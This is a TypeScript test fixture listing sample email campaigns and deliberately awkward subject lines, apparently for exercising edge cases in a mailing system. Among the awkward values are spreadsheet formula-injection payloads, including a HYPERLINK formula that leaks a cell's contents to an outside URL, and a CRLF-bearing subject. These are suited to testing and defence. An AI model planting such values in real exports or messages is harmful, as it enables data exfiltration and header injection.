/** What a sender sends: one entry per template, with its campaign and the subject that goes with it. */
export interface Campaign {
  readonly id: string;
  /** `%name` stands for the recipient's first name. */
  readonly subject: string;
  readonly template: string;
  readonly sender: string;
  readonly pool: string;
  readonly abTest?: string;
  readonly tags: readonly string[];
}

/** Sent in blasts; the order is that of the blasts' sizes, largest first. */
export const blastCampaigns: readonly Campaign[] = [
  {
    id: "blackfriday-members",
    subject: "%name, your members' prices are live 🎉",
    template: "black-friday",
    sender: "offers@news.example.com",
    pool: "marketing-bulk",
    abTest: "subject-line-november",
    tags: ["members", "sale"],
  },
  {
    id: "newsletter_weekly",
    subject: "This week: 7 ideas, 3 recipes, 1 secret",
    template: "newsletter-weekly",
    sender: "hello@news.example.com",
    pool: "marketing-bulk",
    tags: ["newsletter"],
  },
  {
    id: "Spring Sale 2026",
    subject: '"Last chance", said the rabbit — 20% off, today only',
    template: "spring-sale",
    sender: "offers@news.example.com",
    pool: "marketing-bulk",
    abTest: "sale teaser",
    tags: ["sale", "spring"],
  },
  {
    id: "Herbst-Angebot, Österreich",
    subject: "Für Sie, %name: Schönes für den Herbst 🍂",
    template: "herbst",
    sender: "gruesse@post.example.at",
    pool: "europe bulk",
    tags: ["de-AT", "männlich, weiblich"],
  },
  {
    id: "win-back_90days",
    subject: "=SUM(1;1) reasons to come back, %name",
    template: "win-back",
    sender: "hello@news.example.com",
    pool: "marketing-warmup",
    abTest: "win-back_tone",
    tags: ["dormant"],
  },
  {
    id: "新商品のお知らせ",
    subject: "%nameさん、新商品のお知らせ ✨",
    template: "new-products-jp",
    sender: "info@mail.example.jp",
    pool: "asia-bulk",
    tags: ["ja", ""],
  },
  {
    id: "event-invitation/Q3",
    subject: "You are invited:\r\n a morning with the makers",
    template: "invitation",
    sender: "Events@example.org",
    pool: "marketing-warmup",
    tags: ["event", "q3"],
  },
  {
    id: "product-update v4.2",
    subject: "What is new in 4.2 \\ and what is not",
    template: "product-update",
    sender: "product@example.org",
    pool: "marketing-bulk",
    tags: ["product"],
  },
];

/** Sent one by one, when something happens. */
export const triggeredCampaigns: readonly Campaign[] = [
  {
    id: "password-reset",
    subject: "Reset your password",
    template: "templ-1234",
    sender: "no-reply@account.example.com",
    pool: "transactional",
    abTest: "password-reset",
    tags: ["account"],
  },
  {
    id: "order-confirmation",
    subject: "Thank you for your order, %name!",
    template: "order-confirmation",
    sender: "orders@shop.example.com",
    pool: "transactional",
    tags: ["order", "shop"],
  },
  {
    id: "order-shipped",
    subject: "Your parcel is on its way 📦",
    template: "order-shipped",
    sender: "orders@shop.example.com",
    pool: "transactional",
    tags: ["order", "shop"],
  },
  {
    id: "",
    subject: "Invoice, due in 14 days",
    template: "invoice",
    sender: "billing@example.net",
    pool: "transactional",
    tags: [],
  },
  {
    id: "welcome series 1",
    subject: "Welcome, %name",
    template: "welcome-1",
    sender: "hello@news.example.com",
    pool: "transactional",
    abTest: "welcome-length",
    tags: ["welcome", "new customer"],
  },
];

const longSubject = `A subject that somebody pasted a whole letter into: ${"and then, she said, ".repeat(110)}the end`;

/** Subjects as people should not write them, but do; used instead of the campaign's now and then. */
export const awkwardSubjects: readonly string[] = [
  "",
  "Re: Re: Fwd: AW: (no subject)",
  '=HYPERLINK("http://example.com/?leak="&A1,"Your invoice")',
  "Line one\nLine two",
  "Line one\rLine two",
  '""',
  "-5% on everything; +1 for you\t\t",
  "مرحبا %name، عرض خاص 👩‍👩‍👧‍👦",
  "\u2028Separated\u2029",
  longSubject,
];
